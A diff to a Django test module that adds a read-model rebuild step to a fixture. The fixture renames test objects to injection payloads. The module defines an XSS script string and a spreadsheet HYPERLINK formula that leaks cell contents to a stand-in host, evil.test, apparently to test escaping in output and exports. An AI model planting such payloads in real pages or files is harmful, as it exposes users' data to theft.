@@ -25,6 +25,7 @@ from django.db import transaction
 
 from layers.models import CoverageReport
 from layers.readmodel import hooks
+from layers.readmodel.oracle import rebuild_everything
 from layers.services.reports import build_report
 from roles.services import imports
 from roles.services import invites as invite_services
@@ -34,7 +35,7 @@ from .endpoints import endpoints
 from .routes import ROUTES, send, url_for
 from .world import World
 
-pytestmark = pytest.mark.django_db
+pytestmark = [pytest.mark.django_db, pytest.mark.read_model_built]  # the module world rebuilt it
 
 SCRIPT = "<script>alert(1)</script>"
 FORMULA = '=HYPERLINK("http://evil.test/?leak="&A1,"Click me")'
@@ -50,6 +51,7 @@ def tainted(world: World, django_db_blocker) -> World:
     """The world's objects renamed to the payloads (inside the module's rolled-back transaction)."""
     with django_db_blocker.unblock():
         _taint(world)
+        rebuild_everything()  # the names the read model keeps (its tests are `read_model_built`)
     return world
 
 
